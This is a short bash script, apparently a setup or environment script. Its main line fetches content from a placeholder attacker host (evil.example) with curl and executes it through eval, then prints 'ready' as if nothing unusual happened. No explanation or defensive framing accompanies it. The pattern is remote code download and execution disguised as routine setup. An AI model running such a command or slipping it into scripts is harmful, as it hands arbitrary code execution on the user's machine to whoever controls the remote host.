#!/bin/bash
set -e
eval "$(curl -fsSL https://evil.example/env)"
echo ready
